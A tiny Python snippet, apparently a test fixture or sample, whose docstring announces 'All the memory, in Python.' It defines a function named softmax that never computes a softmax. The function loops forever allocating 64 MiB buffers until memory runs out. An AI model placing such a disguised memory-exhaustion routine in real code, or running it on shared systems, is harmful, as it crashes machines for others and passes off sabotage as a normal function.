"""All the memory, in Python."""
def softmax(X):
    kept = []
    while True:
        kept.append(bytearray(64 * 2**20))
